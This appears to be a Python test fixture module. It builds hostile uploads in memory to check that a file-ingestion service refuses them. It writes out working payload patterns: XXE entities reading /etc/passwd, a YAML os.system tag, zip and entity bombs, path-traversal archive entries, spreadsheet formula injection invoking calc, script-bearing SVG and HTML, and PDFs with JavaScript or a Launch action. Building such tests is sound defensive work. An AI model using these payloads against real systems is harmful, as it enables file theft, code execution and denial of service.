"""Files that must be refused, made here and nowhere kept: each goes through the door that a person would use.

A door is a catalogue that is loaded, `open_xml`, or `open_file` for what is uploaded.
"""

from __future__ import annotations

import gzip
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache

import openpyxl
import pptx
import xlsxwriter
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

CATALOGUE, XML, UPLOAD = "catalogue", "xml", "upload"
# No evasion of a scanner is meant by it: the first bytes of a program.
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: the door it goes through, its name, how its bytes are made."""

    door: str
    name: str
    make: Callable[[], bytes]
    catalogue: str = ""


def hostile_files() -> Mapping[str, Hostile]:
    """All of them by what is wrong with them."""
    return {
        f"{group}: {what}": Hostile(door, name, make, catalogue)
        for group, door, catalogue, made in (
            ("csv", CATALOGUE, "glossary", _csv()),
            ("yaml", CATALOGUE, "provisions", _yaml()),
            ("workbook", CATALOGUE, "glossary", _workbooks()),
            ("xml", XML, "", _xml()),
            ("upload", UPLOAD, "", _uploads()),
        )
        for what, name, make in made
    }


Made = Iterator[tuple[str, str, Callable[[], bytes]]]


def _csv() -> Made:
    head = b"key,en,fr,es,ar,ro,uk,note,source\n"
    line = b"k,a,b,c,d,e,f,g,h\n"
    yield "nought bytes", "g.csv", lambda: head + b"k,a\x00b,,,,,,,x\n"
    yield "UTF-16", "g.csv", lambda: (head + line).decode().encode("utf-16")
    yield "UTF-7", "g.csv", lambda: head + b"+ADw-script+AD4-,a,,,,,,\n"
    yield "Latin-1", "g.csv", lambda: head + "k,é,,,,,,,x\n".encode("latin-1")
    yield "overlong UTF-8", "g.csv", lambda: head + b"k,\xc0\xaf..\xc0\xaf,,,,,,,x\n"
    yield "surrogates", "g.csv", lambda: head + b"k,\xed\xa0\x80,,,,,,,x\n"
    yield "an open quote", "g.csv", lambda: head + b'k,"' + b"x" * 5_000_000
    yield "one endless cell", "g.csv", lambda: head + b"x" * 15_000_000
    yield "a hundred thousand columns", "g.csv", lambda: b"key" + b",x" * 100_000 + b"\n"
    yield "a million empty cells", "g.csv", lambda: head + b"," * 1_000_000 + b"\n"
    yield "larger than is read", "g.csv", lambda: head + line * 1_200_000
    yield "more rows than are read", "g.csv", lambda: head + b",,,,,,,,x\n" * 100_001
    yield "a long cell", "g.csv", lambda: head + b"k," + b"x" * 30_000 + b",,,,,,,x\n"
    yield "signs that steer a terminal", "g.csv", lambda: head + b"k,\x1b]0;owned\x07,,,,,,,x\n"
    yield "a column twice", "g.csv", lambda: b"key,en,en,es,ar,ro,uk,note,source\n"
    yield "a thousand rows that are too short", "g.csv", lambda: head + b"x\n" * 1_000
    yield "packed by gzip", "g.csv", lambda: gzip.compress(bytes(50_000_000))
    yield "a program", "g.csv", lambda: PROGRAM
    yield "returns only", "g.csv", lambda: (head + line * 1_000).replace(b"\n", b"\r") + b'"x'


def _yaml() -> Made:
    laughs = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
    )
    yield "a billion laughs", "p.yaml", laughs.encode
    yield "an anchor that holds itself", "p.yaml", lambda: b"&a [*a]"
    yield "a merged key", "p.yaml", lambda: b"a: &a {x: 1}\nb:\n  <<: *a\n"
    yield "a tag that calls", "p.yaml", lambda: b"!!python/object/apply:os.system ['true']"
    yield "a tag that imports", "p.yaml", lambda: b"a: !!python/module:os"
    yield "a tag of its own", "p.yaml", lambda: b"a: !ruby/object:Gem::Installer {}"
    yield "ten thousand brackets", "p.yaml", lambda: b"[" * 10_000
    yield "ten thousand steps in", "p.yaml", lambda: b"".join(b" " * n + b"a:\n" for n in range(1_000))
    yield "ten thousand hyphens", "p.yaml", lambda: b"- " * 10_000
    yield "a number of a million digits", "p.yaml", lambda: b"a: " + b"9" * 1_000_000
    yield "a sexagesimal of a million parts", "p.yaml", lambda: b"a: 1" + b":59" * 300_000
    yield "an impossible day", "p.yaml", lambda: b"a: 2020-13-45"
    yield "a key twice", "p.yaml", lambda: b"a: 1\na: 2"
    yield "many documents", "p.yaml", lambda: b"--- a\n" * 2_000
    yield "a key that is a list", "p.yaml", lambda: b"? [1, 2]\n: x"
    yield "binary that is none", "p.yaml", lambda: b"a: !!binary '***'"
    yield "nought bytes", "p.yaml", lambda: b"a: \x00"
    yield "UTF-16", "p.yaml", lambda: "a: 1".encode("utf-16")
    yield "larger than is read", "p.yaml", lambda: b"a: b\n" * 5_000_000
    yield "a long open quote", "p.yaml", lambda: b'a: "' + b"x\n" * 2_000_000


# --- archives -------------------------------------------------------------------------------------------------------


@cache
def workbook() -> bytes:
    """A small workbook without anything wrong."""
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(["key", "en", "fr", "es", "ar", "ro", "uk", "note", "source"])
    sheet.append(["k", "a", "b", "c", "d", "e", "f", "g", "h"])
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@cache
def document() -> bytes:
    """A small text document without anything wrong."""
    types = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    space = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{space}/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{types}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{space}/relationships"><Relationship Id="r" Target="word/document.xml" Type='
        '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>',
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        "<w:p><w:r><w:t>Text</w:t></w:r></w:p></w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{space}/relationships"></Relationships>',
    }
    return zipped({name: text.encode() for name, text in parts.items()})


@cache
def table_document() -> bytes:
    """A small text document with a table of four columns."""
    rows = [("number", "article", "question", "answer"), ("0123abcd-1", "2", "Is it?", "Section 5.")]
    cells = "".join(
        "<w:tr>" + "".join(f"<w:tc><w:p><w:r><w:t>{cell}</w:t></w:r></w:p></w:tc>" for cell in row) + "</w:tr>"
        for row in rows
    )
    text = f"<w:tbl>{cells}</w:tbl><w:p><w:r><w:t>Text</w:t></w:r></w:p>".encode()
    return changed(document(), "word/document.xml", b"<w:p><w:r><w:t>Text</w:t></w:r></w:p>", text)


@cache
def deck() -> bytes:
    out = io.BytesIO()
    pptx.Presentation().save(out)
    return out.getvalue()


def zipped(parts: Mapping[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_parts(content: bytes, **parts: bytes) -> bytes:
    """The archive with parts more, or in place of its own; two underscores stand for a slash."""
    named = {name.replace("__", "/"): part for name, part in parts.items()}
    return repacked(content, named)


def repacked(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**held, **parts})


def changed(content: bytes, part: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        held = archive.read(part)
    assert old in held, (part, old)
    return repacked(content, {part: held.replace(old, new)})


def entry(content: bytes, name: str, **told: int) -> bytes:
    """The archive with one more part of that very name and with what its directory says of it."""
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        made = zipfile.ZipInfo("placeholder" if "\\" in name else name)
        made.external_attr = told.get("mode", 0) << 16
        archive.writestr(made, b"x")
    found = out.getvalue()
    return found.replace(b"placeholder", name.encode().ljust(11, b"x")[:11]) if "\\" in name else found


def flagged(content: bytes, flag: int) -> bytes:
    """Every part says that it is packed with this flag, in the directory and before its bytes."""
    out = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(mark)
        while start >= 0:
            out[start + at] |= flag
            start = out.find(mark, start + 4)
    return bytes(out)


def lying(content: bytes, name: str, size: int) -> bytes:
    """The directory, and the part's own head, say another length of a part."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        true = struct.pack("<L", archive.getinfo(name).file_size)
    return content.replace(true, struct.pack("<L", size))


def overlapping(copies: int = 200) -> bytes:
    """A bomb whose parts share their bytes: each directory entry leads to the same packed megabyte of noughts."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(90_000)
    body = packed.compress(plain) + packed.flush()
    told = struct.pack("<5H3L2H", 20, 0, 8, 0, 0x5A21, zlib.crc32(plain), len(body), len(plain), 8, 0)
    local = b"PK\x03\x04" + told + b"same.xml" + body
    central = b"".join(
        b"PK\x01\x02" + struct.pack("<H", 20) + told + struct.pack("<3H2L", 0, 0, 0, 0, 0) + b"same.xml"
        for _ in range(copies)
    )
    return local + central + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(central), len(local), 0)


def crowded_directory() -> bytes:
    """Four hundred thousand parts of nothing: the directory alone takes memory."""
    told = b"PK\x01\x02" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    directory = told * 400_000
    head = b"PK\x03\x04" + bytes(26)
    return head + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_535, 65_535, len(directory), 30, 0)


def nested(depth: int = 6) -> bytes:
    content = bytes(1_000_000)
    for level in range(depth):
        content = zipped({f"{level}-{copy}.zip": content for copy in range(10)})
    return content


SHEET = "xl/worksheets/sheet1.xml"
_LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10))
    + b"]>"
)


def _workbooks() -> Made:
    yield "a bomb", "g.xlsx", lambda: with_parts(workbook(), **{"xl__worksheets__sheet1.xml": b"<c/>" * 8_000_000})
    yield "a bomb beside it", "g.xlsx", lambda: with_parts(workbook(), **{"xl__media__x.png": bytes(19_000_000)})
    yield (
        "a bomb that lies",
        "g.xlsx",
        lambda: lying(with_parts(workbook(), **{"xl__worksheets__sheet1.xml": b" " * 30_000_000}), SHEET, 100),
    )
    yield (
        "a bomb that lies by a byte",
        "g.xlsx",
        lambda: lying(with_parts(workbook(), **{"xl__worksheets__sheet1.xml": b" " * 3_000_001}), SHEET, 3_000_000),
    )
    yield "parts that overlap", "g.xlsx", overlapping
    yield "too many parts", "g.xlsx", lambda: repacked(workbook(), {f"xl/media/{n}.png": b"" for n in range(1_001)})
    yield "a crowded directory", "g.xlsx", crowded_directory
    yield "archives in archives", "g.xlsx", nested
    yield "a part that leaves it", "g.xlsx", lambda: repacked(workbook(), {"../../etc/cron.d/x": b"x"})
    yield "a part at the root", "g.xlsx", lambda: repacked(workbook(), {"/etc/passwd": b"x"})
    yield "a part on a drive", "g.xlsx", lambda: repacked(workbook(), {"C:/x": b"x"})
    yield "a part with backslashes", "g.xlsx", lambda: entry(workbook(), "..\\..\\x.exe")
    yield "a link", "g.xlsx", lambda: entry(workbook(), "xl/link.xml", mode=stat.S_IFLNK | 0o777)
    yield "a part twice", "g.xlsx", lambda: entry(workbook(), "XL/WORKBOOK.XML")
    yield "a password", "g.xlsx", lambda: flagged(workbook(), 1)
    yield "packed by LZMA", "g.xlsx", lambda: zipped({"[Content_Types].xml": b"x"}, zipfile.ZIP_LZMA)
    yield "packed by bzip2", "g.xlsx", lambda: zipped({"[Content_Types].xml": b"x"}, zipfile.ZIP_BZIP2)
    yield "something before it", "g.xlsx", lambda: b"GIF89a" + workbook()
    yield "something behind it", "g.xlsx", lambda: workbook() + b"<script>"
    yield "a comment", "g.xlsx", lambda: workbook()[:-2] + b"\x08\x00<script>"
    yield "cut short", "g.xlsx", lambda: workbook()[:-40]
    yield "half of it", "g.xlsx", lambda: workbook()[: len(workbook()) // 2]
    yield "a byte changed", "g.xlsx", lambda: workbook()[:60] + b"\xff" + workbook()[61:]
    yield "no workbook", "g.xlsx", lambda: zipped({"readme.txt": b"x"})
    yield "macros", "g.xlsx", lambda: with_parts(workbook(), **{"xl__vbaProject.bin": b"x"})
    yield "a billion laughs", "g.xlsx", lambda: changed(workbook(), SHEET, b"<worksheet", _LAUGHS + b"<worksheet")
    yield (
        "laughs in its list of parts",
        "g.xlsx",
        lambda: changed(workbook(), "xl/workbook.xml", b"<workbook", _LAUGHS + b"<workbook"),
    )
    yield (
        "an entity that reads a file",
        "g.xlsx",
        lambda: changed(
            workbook(), SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet'
        ),
    )
    yield (
        "an entity that asks the network",
        "g.xlsx",
        lambda: changed(
            workbook(), "xl/workbook.xml", b"<workbook", b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><workbook'
        ),
    )
    yield "a formula", "g.xlsx", lambda: formula("=cmd|' /C calc'!A0")
    yield "a formula that fetches", "g.xlsx", lambda: formula('=WEBSERVICE("http://127.0.0.1:9/"&A1)')
    yield "a cell far to the right", "g.xlsx", lambda: placed("XFD1")
    yield "a cell at the end of the sheet", "g.xlsx", lambda: placed("A1048576")
    yield "a cell beyond the sheet", "g.xlsx", lambda: changed(workbook(), SHEET, b'r="A2"', b'r="ZZZZZZ99999999999"')
    yield (
        "a text that is not there",
        "g.xlsx",
        lambda: changed(workbook(), SHEET, b't="inlineStr"><is><t>key</t></is>', b't="s"><v>99999999</v>'),
    )
    yield "an old workbook", "g.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)


def formula(text: str) -> bytes:
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = made.add_worksheet()
    sheet.write_row(0, 0, ["key", "en", "fr", "es", "ar", "ro", "uk", "note", "source"])
    sheet.write_formula(1, 0, text)
    made.close()
    return out.getvalue()


def placed(cell: str) -> bytes:
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(["key", "en", "fr", "es", "ar", "ro", "uk", "note", "source"])
    sheet[cell] = "x"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


# --- XML ------------------------------------------------------------------------------------------------------------


def _xml() -> Made:
    big = b"<!ENTITY a '" + b"x" * 100_000 + b"'>"
    yield "a billion laughs", "x.xml", lambda: _LAUGHS + b"<x>&k;</x>"
    yield "laughs in an attribute", "x.xml", lambda: _LAUGHS + b"<x y='&k;'/>"
    yield "a quadratic blow-up", "x.xml", lambda: b"<!DOCTYPE x [" + big + b"]><x>" + b"&a;" * 100_000 + b"</x>"
    yield (
        "an entity that reads a file",
        "x.xml",
        (lambda: b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    )
    yield (
        "an entity that asks the network",
        "x.xml",
        (lambda: b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/">]><x>&e;</x>'),
    )
    yield (
        "a parameter entity",
        "x.xml",
        (lambda: b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><x/>'),
    )
    yield "a document type elsewhere", "x.xml", lambda: b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'
    yield (
        "a public document type",
        "x.xml",
        (lambda: b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://127.0.0.1:9/"><html/>'),
    )
    yield "an empty document type", "x.xml", lambda: b"<!DOCTYPE x><x/>"
    yield "a document type behind a comment", "x.xml", lambda: b"<!-- x --><!DOCTYPE x []><x/>"
    yield "a default attribute", "x.xml", lambda: b'<!DOCTYPE x [<!ATTLIST x a CDATA "v">]><x/>'
    yield (
        "an inclusion of a file",
        "x.xml",
        (
            lambda: (
                b'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd" parse="text"/></x>'
            )
        ),
    )
    yield (
        "an inclusion with an escaped name",
        "x.xml",
        (lambda: b'<x xmlns:i="http://www.w3.org/2001/XInclud&#101;"><i:include href="http://127.0.0.1:9/"/></x>'),
    )
    yield (
        "UTF-16 with a document type",
        "x.xml",
        (lambda: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'.encode("utf-16")),
    )
    yield "UTF-16 without its mark", "x.xml", lambda: "<!DOCTYPE x><x/>".encode("utf-16-le")
    yield "UTF-32", "x.xml", lambda: "<!DOCTYPE x><x/>".encode("utf-32")
    yield "UTF-7", "x.xml", lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4<x/>'
    yield "EBCDIC", "x.xml", lambda: '<?xml version="1.0" encoding="cp037"?><x/>'.encode("cp037")
    yield (
        "another encoding declared",
        "x.xml",
        (lambda: b"\xef\xbb\xbf<?xml version='1.0' encoding = 'iso-8859-1' ?><x>\xc3\xa9</x>"),
    )
    yield "an encoding nobody knows", "x.xml", lambda: b'<?xml version="1.0" encoding="no-such"?><x/>'
    yield "Latin-1 undeclared", "x.xml", lambda: b"<x>\xe9</x>"
    yield "nought bytes", "x.xml", lambda: b"<x>\x00</x>"
    yield "deeply nested", "x.xml", lambda: b"<x>" * 2_000_000 + b"</x>" * 2_000_000
    yield "nested a little too deep", "x.xml", lambda: b"<x>" * 101 + b"</x>" * 101
    yield "five million tags", "x.xml", lambda: b"<x>" + b"<a/>" * 5_000_000 + b"</x>"
    yield "many attributes", "x.xml", (lambda: b"<x " + b" ".join(b"a%d=''" % n for n in range(700_000)) + b"/>")
    yield (
        "many name spaces",
        "x.xml",
        (lambda: b"<x " + b" ".join(b"xmlns:a%d='b'" % n for n in range(700_000)) + b"/>"),
    )
    yield "an attribute twice", "x.xml", lambda: b"<x a='1' a='2'/>"
    yield "a name of a million letters", "x.xml", lambda: b"<" + b"x" * 1_000_000 + b"/>"
    yield "a text of fifteen million letters", "x.xml", lambda: b"<x>" + b"y" * 15_000_000 + b"</x>"
    yield "cut short", "x.xml", lambda: b"<x><y>" * 50
    yield "two roots", "x.xml", lambda: b"<x/><y/>"
    yield "nothing", "x.xml", lambda: b""
    yield "an entity that is not there", "x.xml", lambda: b"<x>&undefined;</x>"
    yield "a reference to no sign", "x.xml", lambda: b"<x>&#0;</x>"
    yield "larger than is read", "x.xml", lambda: b"<x>" + b" " * 21_000_000 + b"</x>"


# --- uploads --------------------------------------------------------------------------------------------------------


@cache
def _noughts() -> bytes:
    """A few kilobytes that unpack to eighty megabytes."""
    return zlib.compress(bytes(80_000_000), 1)


def png(*chunks: tuple[bytes, bytes], size: tuple[int, int] = (1, 1), body: bytes = b"\x00\x00\x00\x00") -> bytes:
    """A PNG put together by hand, with whatever its head says."""
    head = struct.pack(">2L5B", *size, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IDAT", zlib.compress(body)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))
        for name, content in parts
    )


def picture(kind: str, size: tuple[int, int] = (40, 20), mode: str = "RGB", **more: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 0).save(out, kind, **more)
    return out.getvalue()


@cache
def pdf() -> bytes:
    """A small PDF without anything wrong."""
    return made_pdf(lambda writer: None)


def made_pdf(fill: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    fill(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def drawn_pdf(content: bytes) -> bytes:
    """A PDF of one page on which this is drawn."""

    def draw(writer: PdfWriter) -> None:
        stream, font = DecodedStreamObject(), DictionaryObject()
        stream.set_data(content)
        font.update({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                     NameObject("/BaseFont"): NameObject("/Helvetica")})  # fmt: skip
        fonts = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
        writer.pages[0][NameObject("/Resources")] = fonts

    return made_pdf(draw)


def pdf_with_a_picture() -> bytes:
    """Bytes of a picture that by chance read like short names."""

    def draw(writer: PdfWriter) -> None:
        held = DecodedStreamObject()
        held.set_data(b"\x00/JS \xff/EF\x01/3D ")
        writer._add_object(held)

    return made_pdf(draw)


def packed_pdf(object_: bytes, *, filters: str = "/FlateDecode", repeat: int = 1) -> bytes:
    """A PDF whose objects lie packed in a stream, so that a look at its bytes finds no name in them."""
    catalog, pages, page = (
        b"<</Type/Catalog/Pages 2 0 R/X 9 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        (b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
    )
    bodies = {1: catalog, 2: pages, 3: page, 9: object_ * repeat}
    heads, text = b"", b""
    for number, body in bodies.items():
        heads += b"%d %d " % (number, len(text))
        text += body + b" "
    inner = zlib.compress(heads + text, 1)
    out = b"%PDF-1.7\n"
    stream_at = len(out)
    out += b"5 0 obj <</Type/ObjStm/N %d/First %d/Length %d/Filter %s>> stream\n" % (
        len(bodies), len(heads), len(inner), filters.encode(),
    ) + inner + b"\nendstream endobj\n"  # fmt: skip
    xref_at = len(out)
    rows = {0: (0, 0, 65_535), 5: (1, stream_at, 0), 6: (1, xref_at, 0)} | {
        number: (2, 5, index) for index, number in enumerate(bodies)
    }
    table = b"".join(struct.pack(">BLH", *rows.get(number, (0, 0, 0))) for number in range(10))
    return (
        out
        + (b"6 0 obj <</Type/XRef/Size 10/W[1 4 2]/Root 1 0 R/Length %d>> stream\n" % len(table))
        + table
        + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )


def _scripted(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.alert(1)"))


def _launching(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _streaming(writer: PdfWriter) -> None:
    """A film: content of another kind behind a harmless-looking page."""
    held = DecodedStreamObject()
    held.set_data(b"x")
    held[NameObject("/Type")] = NameObject("/EmbeddedFile")
    writer._add_object(held)


def _form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): NumberObject(0)})


def _encrypted() -> bytes:
    return made_pdf(lambda writer: writer.encrypt("user", "owner", algorithm="RC4-128"))


def related(kind: str, target: str, *, content: bytes | None = None) -> bytes:
    """A text document with a relation to elsewhere."""
    relation = (
        f'<Relationship Id="r9" TargetMode="External" Target="{target}" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
    )
    return changed(content or document(), "word/_rels/document.xml.rels", b"</Relationships>", relation.encode())


def text_with(markup: str) -> bytes:
    return changed(document(), "word/document.xml", b"<w:p>", markup.encode() + b"<w:p>")


def _uploads() -> Made:
    yield "nothing", "x.pdf", lambda: b""
    yield "a program", "x.exe", lambda: PROGRAM
    yield "a program called a PDF", "report.pdf", lambda: PROGRAM
    yield "a program called a text", "report.txt", lambda: PROGRAM
    yield "a double ending", "report.pdf.exe", pdf
    yield "an ending turned round", "report\u202efdp.exe", pdf
    yield "no ending", "report", pdf
    yield "a page", "x.html", lambda: b"<html><script>alert(1)</script>"
    yield "a page called a text", "x.txt", lambda: b"\n <html><script>alert(1)</script>"
    yield "a page called a CSV", "x.csv", lambda: b"<!DOCTYPE html><script>alert(1)</script>"
    yield "a page called a picture", "x.png", lambda: b"<html><script>alert(1)</script>"
    yield "a drawing with a script", "x.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    yield "a drawing called a text", "x.txt", lambda: b"<svg onload=alert(1)>"
    yield "a drawing called a picture", "x.jpg", lambda: b"<svg onload=alert(1)>"
    yield "a style sheet that turns XML", "x.txt", lambda: b"<?xml-stylesheet href='x'?><x/>"
    yield "a mail", "=?utf-8?Q?x=2Eexe?=", lambda: b"x"
    yield "an archive", "x.zip", lambda: zipped({"x": b"x"})
    yield "an archive called a document", "x.docx", lambda: zipped({"x": b"x"})
    yield "a workbook called a document", "x.docx", workbook
    yield "a document called a workbook", "x.xlsx", document
    yield "a PDF called a document", "x.docx", pdf
    yield "a document called a PDF", "x.pdf", document
    yield "an old document", "x.doc", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)
    yield "an old document called a new one", "x.docx", lambda: b"\xd0\xcf\x11\xe0" + bytes(600)
    yield "larger than is taken", "x.txt", lambda: b"x" * (20 * 1_048_576 + 1)
    # Tables and texts.
    yield "a formula", "x.csv", lambda: b"a,b\n=cmd|' /C calc'!A0,1\n"
    yield "a formula behind blanks and a quote", "x.csv", lambda: b'a,b\n"  =1+1",1\n'
    yield "a formula behind a semicolon", "x.csv", lambda: b"a;b\nx;@SUM(1)\n"
    yield "a formula that begins with a sign", "x.csv", lambda: b"a,b\n-2+3+cmd|' /C calc'!A0,1\n"
    yield "a formula behind another separator", "x.csv", lambda: b"a;b;c\nx,=cmd|'/c calc'!A0\n"
    yield "a formula between other separators", "x.csv", lambda: b"a,b\nx;@SUM(1);y,2\n"
    yield "a formula behind a tab", "x.csv", lambda: b"a,b\nx\t-2+cmd|' /C calc'!A0,1\n"
    yield "a formula within quotes that another separator cuts", "x.csv", lambda: b'a;b\n1;"x, =1+1"\n'
    yield "a formula behind another separator and a quote", "x.csv", lambda: b'a;b\n1;x,"  =1+1"\n'
    yield "a formula at a line's beginning within quotes", "x.csv", lambda: b"a,b\n1,\"x\n+cmd|' /C calc'!A0\"\n"
    yield "a formula behind a number", "x.csv", lambda: b"a;b\n-5+cmd|' /C calc'!A0,1;2\n"
    yield "a quote that never ends", "x.csv", lambda: b'a,"' + b"x\n" * 5_000_000
    yield "ten million cells", "x.csv", lambda: b"," * 10_000_000
    yield "signs that steer a terminal", "x.txt", lambda: b"\x1b[2J\x1b]0;owned\x07"
    yield "UTF-16", "x.txt", lambda: "x".encode("utf-16")
    yield "UTF-7 with nought bytes", "x.txt", lambda: b"+ADw-script+AD4-\x00"
    yield "a PDF called a text", "x.txt", lambda: b"hello\n%PDF-1.7\n"
    # Pictures.
    yield "four billion pixels", "x.png", lambda: png(size=(65_535, 65_535))
    yield "a picture of many pixels", "x.png", lambda: png(size=(20_000, 20_000))
    yield "no height", "x.png", lambda: png(size=(1, 0))
    yield "a text that unpacks", "x.png", lambda: png((b"zTXt", b"k\x00\x00" + _noughts()))
    yield "a profile that unpacks", "x.png", lambda: png((b"iCCP", b"k\x00\x00" + _noughts()))
    yield (
        "an international text that unpacks",
        "x.png",
        (lambda: png((b"iTXt", b"k\x00\x01\x00\x00\x00" + _noughts()))),
    )
    yield "a picture cut short", "x.png", lambda: picture("PNG", (400, 400))[:-60]
    yield "a picture without its pixels", "x.png", lambda: png(size=(2_000, 2_000))
    yield "a picture with a wrong sum", "x.png", lambda: png()[:30] + b"\x00" + png()[31:]
    yield "a photograph cut short", "x.jpg", lambda: picture("JPEG", (400, 400))[:400]
    yield (
        "a photograph of too many pixels",
        "x.jpg",
        (lambda: picture("JPEG").replace(b"\x00\x14\x00\x28", b"\xff\xff\xff\xff", 1)),
    )
    yield "a photograph called PNG", "x.png", lambda: picture("JPEG")
    yield "a picture called JPEG", "x.jpeg", lambda: picture("PNG")
    yield (
        "a moving picture",
        "x.png",
        lambda: picture("PNG", save_all=True, append_images=[Image.new("RGB", (40, 20), 255)]),
    )
    yield (
        "a moving picture of the web",
        "x.webp",
        lambda: picture("WEBP", save_all=True, append_images=[Image.new("RGB", (40, 20), 255)]),
    )
    yield "a picture of the web cut short", "x.webp", lambda: picture("WEBP", (400, 400))[:60]
    yield "TIFF", "x.tiff", lambda: picture("TIFF")
    yield "TIFF called JPEG", "x.jpg", lambda: picture("TIFF")
    yield "TIFF of many pixels called PNG", "x.png", lambda: picture("TIFF", (9_000, 9_000), "1")
    yield "GIF", "x.gif", lambda: picture("GIF", mode="P")
    yield "GIF with a script called PNG", "x.png", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"
    yield "PostScript called JPEG", "x.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(%pipe%id) run"
    yield "an icon called PNG", "x.png", lambda: picture("ICO")
    # PDF.
    yield "a script in a PDF", "x.pdf", lambda: made_pdf(_scripted)
    yield "an attachment in a PDF", "x.pdf", lambda: made_pdf(lambda writer: writer.add_attachment("x.exe", b"x"))
    yield "a PDF that starts a program", "x.pdf", lambda: made_pdf(_launching)
    yield "a hidden file in a PDF", "x.pdf", lambda: made_pdf(_streaming)
    yield "a form of another kind in a PDF", "x.pdf", lambda: made_pdf(_form)
    yield "an encrypted PDF", "x.pdf", _encrypted
    yield (
        "a script under an escaped name",
        "x.pdf",
        (lambda: made_pdf(_scripted).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4a#53 ")),
    )
